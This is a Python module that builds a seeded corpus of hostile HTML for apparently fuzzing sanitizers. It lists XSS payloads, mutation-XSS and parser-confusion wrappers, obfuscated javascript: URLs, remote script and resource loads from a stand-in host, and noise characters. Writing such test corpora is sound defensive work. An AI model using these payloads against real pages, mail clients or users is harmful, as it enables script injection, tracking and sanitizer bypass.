"""Hostile HTML, made from pieces: what runs, what loads, and the ways in which parsers and readers disagree.

Written after the kinds that public collections have (mutations, namespaces, entities, styles, schemes, parsers within
parsers); no list is copied. Whatever runs calls `alert`, whatever loads asks `LOADED`.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import Final

LOADED: Final = "https://loaded.example"

# What runs or loads by itself, once a browser takes it for an element.
PAYLOADS: Final = [
    "<script>alert(1)</script>",
    f"<script src={LOADED}/a.js></script>",
    "<img src=x: onerror=alert(1)>",
    "<img src=x:\x0conerror=alert(1)>",
    "<img/src=`x:`/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x>b</a></svg>",
    f"<svg><image href={LOADED}/a.png /><use href='{LOADED}/a.svg#b'/></svg>",
    f"<svg><style>@import '{LOADED}/a.css';</style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>b</maction></math>",
    "<body onload=alert(1)>",
    f"<body background={LOADED}/a.png>",
    "<details open ontoggle=alert(1)>b</details>",
    "<video><source onerror=alert(1) src=x:></video>",
    f"<video poster={LOADED}/a.png src={LOADED}/a.mp4 autoplay></video>",
    f"<audio src={LOADED}/a.mp3 autoplay onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    f"<input type=image src={LOADED}/a.png>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>b</marquee>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    f"<iframe src={LOADED}/a.html></iframe>",
    f"<object data={LOADED}/a.swf></object><embed src={LOADED}/a.swf>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<link rel=stylesheet href={LOADED}/a.css><link rel=prefetch href={LOADED}/b>",
    f"<link rel=preload as=image href={LOADED}/c><link rel=icon href={LOADED}/d>",
    f"<meta http-equiv=refresh content='0;url={LOADED}/a'>",
    f"<base href={LOADED}/><img src=a.png>",
    "<form id=a action=javascript:alert(1)><button>b</button></form>",
    f"<style>@import url({LOADED}/a.css);*{{background:url({LOADED}/a.png)}}</style><p>b</p>",
    f"<style>@font-face{{font-family:f;src:url({LOADED}/a.woff)}}p{{font-family:f}}</style><p>b</p>",
    f"<style>p:after{{content:url({LOADED}/a.png)}}p{{cursor:url({LOADED}/c),auto}}</style><p>b</p>",
    f"<p style='background:url({LOADED}/a.png)'>b</p>",
    f'<p style="background:\\75rl({LOADED}/a.png)">b</p>',
    f"<p style='background:u/**/rl({LOADED}/a.png);border-image:url({LOADED}/b.png)'>b</p>",
    f"<p style=\"background-image:image-set('{LOADED}/a.png' 1x)\">b</p>",
    f'<p style="color:red;}}*{{background:url({LOADED}/a)">b</p>',
    f"<p style=\"font-family:'a\\\n;background:url({LOADED}/a.png);'\">b</p>",
    f"<p style='--a:url({LOADED}/a.png);background:var(--a)'>b</p>",
    f'<p style="list-style:disc url({LOADED}/a.png);display:list-item">b</p>',
    f"<img srcset='{LOADED}/a.png 1x'><picture><source srcset={LOADED}/b.png><img></picture>",
    f"<table background={LOADED}/a.png><tr><td background={LOADED}/b.png>b</table>",
    "<a href=javascript:alert(1)>b</a>",
    "<a href='&#x0A;java&Tab;scr&NewLine;ipt&colon;alert(1)'>b</a>",
    "<a href='java&#0000115cript:alert(1)'>b</a>",
    "<a href='\x01\x02javascript:alert(1)'>b</a>",
    "<a href='java&#1;script:alert(1)'>b</a>",
    "<a href='java\x00script:alert(1)'>b</a>",
    "<a href=data:text/html,<script>alert(1)</script>>b</a>",
    "<a href=vbscript:alert(1)>b</a><a href=blob:x>c</a><a href=filesystem:x>d</a><a href=view-source:x>e</a>",
    "<a href=//loaded.example>b</a><a href=/session>c</a><a href=\\\\loaded.example\\a>d</a>",
    "<img src='//loaded.example/a.png'><img src='/a.png'><img src='\\\\loaded.example/b'>",
    f"<img src='ftp://loaded.example/a'><img src='blob:{LOADED}/a'>",
    f"<div style='position:fixed;inset:0;z-index:9'>b</div><a ping={LOADED}/p href=https://x.example>c</a>",
    "<template shadowrootmode=open><img src=x: onerror=alert(1)></template>",
    "<div popover onbeforetoggle=alert(1)>b</div><dialog open onclose=alert(1)>c</dialog>",
    "<isindex type=image src=x: onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)><portal src=javascript:alert(1)></portal>",
]

# What opens a state in which one reader sees words and another elements; `%` is where the payload stands.
DISGUISES: Final = [
    "%",
    "<p title='%'>a</p>",
    '<p title="%">a</p>',
    "<p title='</p>%'>a</p>",
    '<img alt="</title></style></textarea>%">',
    "<!--%-->",
    "<!-->%-->",
    "<!--a--!>%",
    "<!--a<!--b-->%",
    "<![CDATA[%]]>",
    "<svg><![CDATA[%]]></svg>",
    "<svg><desc>%</desc></svg>",
    "<svg><foreignObject>%</foreignObject></svg>",
    "<svg></p><style><a id='</style>%'></a>",
    "<svg><title><style><!--</style>%--></title></svg>",
    "<math><mtext>%</mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style>%--></table></mtext></math>",
    "<math><mi><table><tr><td></mi>%</math>",
    "<math><annotation-xml encoding='text/html'>%</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>%</style>",
    "<noscript><p title='</noscript>%'></noscript>",
    "<textarea><p title='</textarea>%'></textarea>",
    "<title><p title='</title>%'></title>",
    "<style><p title='</style>%'></style>",
    "<xmp><p title='</xmp>%'></xmp>",
    "<noembed><p title='</noembed>%'></noembed>",
    "<noframes><p title='</noframes>%'></noframes>",
    "<iframe><p title='</iframe>%'></iframe>",
    "<plaintext>%",
    "<select><option><style></select>%</style>",
    "<template><table><tr>%</template>",
    "<table><tr>%<td>a</table>",
    "<table><colgroup>%</table>",
    "<table><caption><svg><td>%</table>",
    "<a><table><a>%</table></a>",
    "<b><p><b></p>%</b>",
    "<nobr><p><nobr></p>%",
    "<div><h1><a><div><h2>%</a></div>",
    "&lt;div&gt;%&lt;/div&gt;",
    "<scr<script></script>ipt>%",
    "<<p>%</p>",
    "<p/%",
    "<p a='b'%",
    "<x-a><?php %?></x-a>",
    "<?xml version='1.0'?><?a %?>",
    "<!DOCTYPE html [<!ENTITY a '%'>]>&a;",
    "<![if !mso]>%<![endif]>",
    "<!--[if gte mso 9]>%<![endif]-->",
    "<xml><o:p>%</o:p></xml>",
    "<div class=gmail_quote>%</div>",
    "<div data-quoted=true><p data-quoted-from=''>%</p></div>",
    "<pre>\n\n%</pre>",
    "<style>p{color:red}</style><p style='font-family:\"'>%</p>",
]
# Put between the characters of a piece, or instead of one.
NOISE: Final = [
    *["\x00", "\x01", "\t", "\r\n", "\x0c", "\x85", "\u2028", "\ufeff", "/"],
    *["&#0;", "&NewLine;", "<", ">", "'", '"', "`"],
]


def hostile_html(count: int, seed: int = 1) -> Iterator[str]:
    """So many texts, the same for a seed: each payload bare first, then each disguise, then mixtures with noise."""
    random = Random(seed)
    plain = [*PAYLOADS, *(disguise.replace("%", random.choice(PAYLOADS)) for disguise in DISGUISES)]
    yield from plain[:count]
    for _ in range(count - len(plain)):
        text = random.choice(PAYLOADS)
        for disguise in random.sample(DISGUISES, random.randint(1, 3)):
            text = disguise.replace("%", text)
        yield _noisy(random, text) if random.random() < 0.5 else text


def _noisy(random: Random, text: str) -> str:
    for _ in range(random.randint(1, 3)):
        at = random.randrange(len(text))
        text = text[:at] + random.choice(NOISE) + text[at + random.randint(0, 1) :]
    return text
